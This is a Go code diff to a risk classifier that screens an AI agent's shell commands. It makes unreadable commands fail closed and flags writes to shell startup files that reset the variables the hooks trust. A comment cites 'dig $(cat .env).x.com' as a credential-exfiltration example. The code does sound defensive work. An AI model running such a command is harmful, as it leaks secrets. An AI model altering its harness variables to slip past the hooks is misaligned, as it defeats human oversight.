@@ -13,7 +13,9 @@ func (c *Classifier) bashTool(r *result, ev *claude.Event, cwd string) {
 		Command *string `json:"command"`
 	}
 	if !decode(ev.ToolInput, &in) || in.Command == nil {
-		r.add(risk.High, ShellExec, "unreadable_input", "Bash", "tool_input.command is missing or not a string")
+		// Fail closed: a command we cannot read is one we cannot judge, and at high trust
+		// anything short of critical would be auto-approved.
+		r.add(risk.Critical, ShellExec, "unreadable_input", "Bash", "tool_input.command is missing or not a string: it cannot be judged")
 		return
 	}
 	if strings.TrimSpace(*in.Command) == "" {
@@ -21,6 +23,7 @@ func (c *Classifier) bashTool(r *result, ev *claude.Event, cwd string) {
 		return
 	}
 	c.program(r, *in.Command, cwd)
+	c.harnessEnvWrite(r, *in.Command, r.writes, ShellExec)
 	// A credential read is file_read on its own; next to a command that writes, runs or
 	// sends (dig $(cat .env).x.com), it must not carry that command at file_read's trust.
 	other := false
@@ -184,6 +187,9 @@ func (c *Classifier) command(r *result, cmd *shell.Cmd) {
 		x.add(risk.Critical, ShellExec, "dynamic_command", "the command name cannot be known statically: it could be any program")
 		return
 	}
+	if x.selfInvocation() {
+		return
+	}
 	if cmd.Carrier {
 		x.add(risk.Low, FileRead, "carrier", x.name+" runs a second program, judged on its own commands")
 		return
@@ -231,4 +237,19 @@ func (c *Classifier) command(r *result, cmd *shell.Cmd) {
 		return
 	}
 	x.judge()
+}
+
+// harnessEnvWrite: text that sets a variable the hooks trust (OATH_BIN …) written into a file
+// a shell or direnv loads is critical, whatever the file (the well-known ones are protected
+// outright; this catches ~/.config/fish/functions/x.fish, a project's .envrc, /etc/*rc …).
+func (c *Classifier) harnessEnvWrite(r *result, text string, writes []string, domain string) {
+	if !setsHarnessEnv(text) {
+		return
+	}
+	for _, w := range writes {
+		if startupFile(w) {
+			r.add(risk.Critical, domain, "self_protection", w, "writes "+w+", which a shell or direnv loads, with a setting of OATH_BIN, OATH_HOME, OATH_HOOKS_DIR or CLAUDE_PROJECT_DIR: the hooks trust those to find the harness")
+			return
+		}
+	}
 }
